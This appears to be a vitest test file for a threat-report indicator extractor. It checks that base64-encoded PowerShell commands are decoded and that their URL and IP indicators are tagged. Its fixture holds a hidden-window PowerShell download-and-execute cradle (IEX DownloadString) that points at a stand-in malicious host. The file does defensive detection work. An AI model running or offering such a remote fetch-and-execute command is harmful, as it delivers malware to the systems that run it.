import { describe, expect, it } from 'vitest';
import { extract } from '../index.js';

const enc = (s: string): string => Buffer.from(s, 'utf16le').toString('base64');

describe('encoded PowerShell commands in a report', () => {
  it('adds the indicators of the decoded command, at the base64, tagged decoded; one also written in clear gets the occurrence', async () => {
    const b64 = enc('IEX (New-Object Net.WebClient).DownloadString("http://update-cdn.kx-beacon.org/a.ps1"); Start-Process 45.86.12.34');
    const text = `The lure ran:\n\n    powershell -nop -w hidden -enc ${b64}\n\nIt also talked to 45.86.12.34 directly.\n`;
    const r = await extract({ text, name: 'note.md' }, { stages: ['indicators'] });
    const at = text.indexOf(b64);
    const url = r.indicators.find((i) => i.type === 'url')!;
    expect(url.value).toBe('http://update-cdn.kx-beacon.org/a.ps1');
    expect(url.occurrences).toEqual([{ offset: at, line: 3, raw: 'http://update-cdn.kx-beacon.org/a.ps1' }]);
    expect(url.tags).toContain('decoded');
    expect(url.context).toContain('DownloadString');
    const ip = r.indicators.find((i) => i.type === 'ipv4')!;
    expect(ip.occurrences.map((o) => o.offset)).toEqual([at, text.indexOf('45.86.12.34')]);
    expect(ip.tags).toContain('decoded');
    // In order of first occurrence, as always.
    expect(r.indicators.map((i) => i.occurrences[0]!.offset)).toEqual([...r.indicators.map((i) => i.occurrences[0]!.offset)].sort((a, b) => a - b));
  });

  it('changes nothing in a report without one', async () => {
    const r = await extract({ text: 'C2 at 45.86.12.34 and grep -e pattern file.txt', name: 'n.txt' }, { stages: ['indicators'] });
    expect(r.indicators.map((i) => [i.type, i.tags])).toEqual([['ipv4', []], ['filename', []]]);
  });
});
